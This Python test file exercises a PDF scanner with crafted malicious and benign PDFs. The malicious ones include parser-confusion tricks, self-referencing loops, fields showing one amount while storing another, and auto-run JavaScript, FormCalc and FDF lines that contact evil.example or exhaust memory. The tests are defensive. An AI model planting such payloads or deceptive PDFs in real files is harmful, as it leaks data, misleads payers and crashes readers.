"""PDFs whose pages readers take differently, that lead in circles, or whose forms say two things; and honest twins."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.engine import Engine
from safecare.examine.pdf.strings import string_at
from safecare.examine.pdf.values import members, twice

ENGINE = Engine()
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>"
BLUE = b"q 0 0 1 rg 0 0 595 842 re f Q BT /F1 22 Tf 30 800 Td (Pay 10) Tj ET"
RED = b"q 1 0 0 rg 0 0 595 842 re f Q BT /F1 22 Tf 30 800 Td (Pay 99) Tj ET"


def stream(data: bytes, keys: bytes = b"", length: int = -1) -> bytes:
    """Return a stream that says it is `length` bytes long, or as long as it is."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (keys, len(data) if length < 0 else length, data)


def pdf(catalog: bytes = b"", page: bytes = b"", contents: bytes = b"[4 0 R 5 0 R]", **more: bytes) -> bytes:
    """Return a PDF whose page shows two streams; `more` are further objects, ``_6`` and so on."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: PAGES,
        3: b"<</Type/Page/Parent 2 0 R%s/Contents %s>>" % (page, contents),
        4: stream(BLUE),
        5: stream(RED),
        **{int(name[1:]): value for name, value in more.items()},
    }
    out, places = b"%PDF-1.7\n", {}
    for number, text in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    size = max(objects) + 1
    table = b"".join(
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 00000 f \n" for n in range(1, size)
    )
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


def entry(raw: bytes, number: int) -> bytes:
    """Return the line of the table that lists an object."""
    return b"%010d 00000 n" % raw.index(b"%d 0 obj" % number)


def revised(raw: bytes, end: bytes = b"%%EOF\n", start: int = -1, *, trailer: bool = True) -> bytes:
    """Return `raw` with a revision that gives its page another stream."""
    place, before = len(raw), raw.index(b"xref\n0")
    out = raw + b"5 0 obj\n%s\nendobj\n" % stream(BLUE)
    table = len(out)
    out += b"xref\n5 1\n%010d 00000 n \n" % place
    out += b"trailer\n<</Root 1 0 R/Size 6/Prev %d>>\n" % before if trailer else b""
    return out + b"startxref\n%d\n" % (table if start < 0 else start) + end


PLAIN = pdf()
FIELD = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(sum)/V(%s)/AP<</N 7 0 R>>/Rect[0 0 9 9]>>"
LOOK = b"/Tx BMC q BT /Helv 12 Tf 2 2 Td (%s) Tj ET Q EMC"
FORM = b"/AcroForm<</Fields[6 0 R]%s>>"
FORMS = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<<%s>>>>"
SHOWN_DIFFERENTLY = {
    "an object commented out": PLAIN.replace(b"\n5 0 obj", b"\n%5 0 obj"),
    "a word behind the head of an object": PLAIN.replace(b"5 0 obj", b"5 0 obj\x01"),
    "a word in the list of contents": pdf(contents=b"[4 0 R \x01 5 0 R]"),
    "a list in the list of contents": pdf(contents=b"[4 0 R [5 0 R]]"),
    "a key with a byte behind it": PLAIN.replace(b"/Contents ", b"/Contents\x01 "),
    "no end of a stream": PLAIN[:-400] + PLAIN[-400:].replace(b"endstream", b"", 1),
    "no line behind the word stream": PLAIN.replace(b"stream\nq 1", b"stream\x01\nq 1"),
    "a filter that there is not": pdf(_5=stream(RED, b"/Filter/Unknown")),
    "no length": pdf(_5=stream(RED).replace(b"/Length %d" % len(RED), b"")),
    "text behind a percent sign": pdf(_5=stream(b"% " + RED)),
    "a long gap": pdf(_5=stream(b" " * 40_000 + RED)),
    "an operator that there is not": pdf(_5=stream(b"x " + RED)),
    "an entry that is free": PLAIN.replace(entry(PLAIN, 5), entry(PLAIN, 5)[:-1] + b"f"),
    "an entry that is neither": PLAIN.replace(entry(PLAIN, 5), entry(PLAIN, 5)[:-1] + b"x"),
    "an entry that leads to another": PLAIN.replace(entry(PLAIN, 5), entry(PLAIN, 4)),
    "two dictionaries in one object": pdf().replace(
        b"/Contents [4 0 R 5 0 R]>>", b"/Contents 4 0 R>><</Contents 5 0 R>>"
    ),
    "an object before the head": b"%pdf-1.7\n" + PLAIN[PLAIN.index(b"5 0 obj") : PLAIN.index(b"xref\n0")] + PLAIN,
    "a second head": b"%PDF-1\n5 0 obj\n" + stream(BLUE) + b"\nendobj\n" + PLAIN,
    "a revision without its end": revised(PLAIN, end=b"%EOF\n"),
    "a revision that leads nowhere": revised(PLAIN, start=0),
    "a revision without a trailer": revised(PLAIN, trailer=False),
}
IN_CIRCLES = {
    "a list that holds itself": pdf(contents=b"6 0 R", _6=b"[6 0 R]"),
    "outlines in a circle": pdf(
        b"/Outlines 6 0 R", _6=b"<</First 7 0 R>>", _7=b"<</Title(a)/Next 8 0 R>>", _8=b"<</First 7 0 R>>"
    ),
    "a function of itself": pdf(_6=b"<</FunctionType 3/Functions[6 0 R 6 0 R]>>"),
    "a form that draws itself": pdf(_6=stream(b"/X Do", FORMS % b"/X 6 0 R")),
    "a directory before itself": re.sub(
        rb"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % PLAIN.index(b"xref\n0"), PLAIN, count=1
    ),
    "forms of forms of forms": pdf(
        **{f"_{n}": stream(b"/X Do " * 30, FORMS % (b"/X %d 0 R" % (n + 1))) for n in range(6, 14)},
        _14=stream(b"0 0 1 1 re f", FORMS % b""),
    ),
    "a function that copies without end": pdf(
        _6=stream(b"{ 1000000 copy }", b"/FunctionType 4/Domain[0 1]/Range[0 1]")
    ),
}
SCRIPTS = {
    "a name put together": b'app["launch"+"URL"]("http://evil.example/")',
    "a name in a variable": b'var m="getURL";this[m]("http://evil.example/")',
    "text of the document": b"eval(this.info.Title)",
    "a call within calls": b'app.launchURL("http://evil.example/"+f(g(h(1))))',
    "a call of the browser": b'fetch("https://evil.example/")',
    "a text that doubles": b'var s="a";while(s.length<99999999999){s+=s;}',
    "a function of itself": b"function f(){f();f();} f();",
}
TWICE_SAID = {
    "a field that shows another value": pdf(
        FORM % b"", b"/Annots[6 0 R]", _6=FIELD % b"10 EUR", _7=stream(LOOK % b"99 EUR")
    ),
    "a field that changes when printed": pdf(
        b'/AcroForm<</Fields[6 0 R]>>/AA<</WP<</S/JavaScript/JS(this.getField\\("sum"\\).value="99 EUR";)>>>>',
        _6=FIELD % b"10 EUR",
        _7=stream(LOOK % b"10 EUR"),
    ),
    "a picture in a note from elsewhere": pdf(
        page=b'/Annots[<</Subtype/FreeText/RC(<body><img src="http://evil.example/a.png"/></body>)>>]'
    ),
    "form calc that posts": pdf(
        b"/AcroForm<</XFA 6 0 R>>",
        _6=stream(
            b'<xdp:xdp><template><script contentType="application/x-formcalc">Post("http://evil.example","a")</script>'
        ),
    ),
}
HONEST = {
    "plain": PLAIN,
    "a revision": revised(PLAIN),
    "comments about nothing": PLAIN.replace(b"endstream\n", b"endstream\n% a comment\n").replace(
        b"/Parent", b"% page\n/Parent"
    ),
    "no line between two words": PLAIN.replace(b"endstream\nendobj\n", b"endstreamendobj\n\n"),
    "a percentage": pdf(_5=stream(b"BT (100 %) Tj [(5 %)-20(of)] TJ (a\\) 5 %) Tj ET")),
    "every kind of operator": pdf(
        _5=stream(
            b"q 1 0 0 1 0 0 cm /G gs BT 0 Tc (a)' (b)\" T* <feff>Tj ET W* n\n"
            b"BI /W 1/H 1/BPC 8 ID \xff\xfe\nEI Q\n0 0 1 1 re B*"
        )
    ),
    "one stream cut in two": pdf(_4=stream(b"BT (a) Tj [(b)"), _5=stream(b"(c)] TJ ET")),
    "forms that share what they may draw": pdf(
        _6=stream(b"/Y Do", FORMS % b"/X 6 0 R/Y 7 0 R"), _7=stream(b"0 0 1 1 re f")
    ),
    "a link by a script": pdf(
        page=b'/Annots[<</Subtype/Link/A<</S/JavaScript/JS(app.launchURL\\("https://a.example/"\\))>>>>]'
    ),
    "a button that leads on": pdf(
        page=b"/Annots[<</Subtype/Widget/FT/Btn/AA<</U<</S/URI/URI(https://a.example/)>>>>>>]"
    ),
    "a polyfill": pdf(b"/OpenAction<</S/JavaScript/JS(function g\\(\\){while\\(true\\){if\\(x\\(\\)\\){break;}}})>>"),
    "a field": pdf(FORM % b"", b"/Annots[6 0 R]", _6=FIELD % b"10 EUR", _7=stream(LOOK % b"10 EUR")),
    "a field to be drawn anew": pdf(FORM % b"/NeedAppearances true", _6=FIELD % b"10", _7=stream(LOOK % b"9")),
    "a field that a script formats": pdf(
        FORM % b"",
        _6=(FIELD % b"10").replace(b"/Rect", b"/AA<</F<</S/JavaScript/JS(AFDate\\(1\\))>>>>/Rect"),
        _7=stream(LOOK % b"10.00"),
    ),
    "a name space": pdf(_6=b"<</Type/Namespace/NS(http://iso.org/pdf2/ssn)>>"),
}


@pytest.mark.parametrize("name", [*SHOWN_DIFFERENTLY, *IN_CIRCLES, *TWICE_SAID])
def test_attacks_are_found(name: str) -> None:
    found = ENGINE.judge((SHOWN_DIFFERENTLY | IN_CIRCLES | TWICE_SAID)[name], "a.pdf")
    assert found.score >= 0.5, found.findings


@pytest.mark.parametrize("name", SCRIPTS)
def test_scripts_that_run_by_themselves_are_found(name: str) -> None:
    text = SCRIPTS[name].replace(b"(", b"\\(").replace(b")", b"\\)")
    for script in (SCRIPTS[name], text):  # parentheses that balance need no escape
        found = ENGINE.judge(pdf(b"/OpenAction<</S/JavaScript/JS(%s)>>" % script), "a.pdf")
        assert found.score >= 0.5, found.findings


@pytest.mark.parametrize("name", HONEST)
def test_honest_documents_are_clean(name: str) -> None:
    found = ENGINE.judge(HONEST[name], "a.pdf")
    assert found.score < 0.5, found.findings


def test_data_of_forms_that_lead_to_a_server_are_found() -> None:
    fdf = b"%FDF-1.2\n1 0 obj\n<</FDF<</F(\\\\\\\\evil.example\\\\a.pdf)>>>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    xfdf = b'<?xml version="1.0"?><xfdf xmlns="http://ns.adobe.com/xfdf/"><f href="%s"/></xfdf>'
    assert ENGINE.judge(fdf, "a.fdf").score >= 0.5
    assert ENGINE.judge(fdf.replace(b"\\\\\\\\evil.example\\\\", b""), "a.fdf").score < 0.5
    assert ENGINE.judge(xfdf % b"\\\\evil.example\\a.pdf", "a.xfdf").score >= 0.5
    assert ENGINE.judge(xfdf % b"a.pdf", "a.xfdf").score < 0.5


def test_values_are_read_as_they_stand() -> None:
    text = b"<</A 5 0 R/B[1 2/X<<>>]/C(a(b)c)/D<feff>/E<</S/URI/X 1>>/F true/G 12>>"
    assert [key for key, _ in members(text)] == [b"A", b"B", b"C", b"D", b"E", b"F", b"G"]
    assert dict(members(text))[b"E"] == b"<</S/URI/X 1>>"
    assert twice(b"<</A<</S/URI/URI(a)/S/URI/URI(b)>>>>", frozenset({b"URI"})) == b"URI"
    assert not twice(b"<</BS<</S/S/W 0>>/S/S>>", frozenset({b"S"}))
    assert string_at(b" (a(b\\)c(d)))", 0) == b"a(b)c(d))"
    assert string_at(b"(" * 200, 0) is None


@given(st.binary(max_size=300), st.integers(0, 800))
def test_any_bytes_within_a_pdf(raw: bytes, place: int) -> None:
    found = ENGINE.judge(PLAIN[:place] + raw + PLAIN[place:], "a.pdf")
    assert not [one for one in found.findings if one.rule.endswith(".failed")]
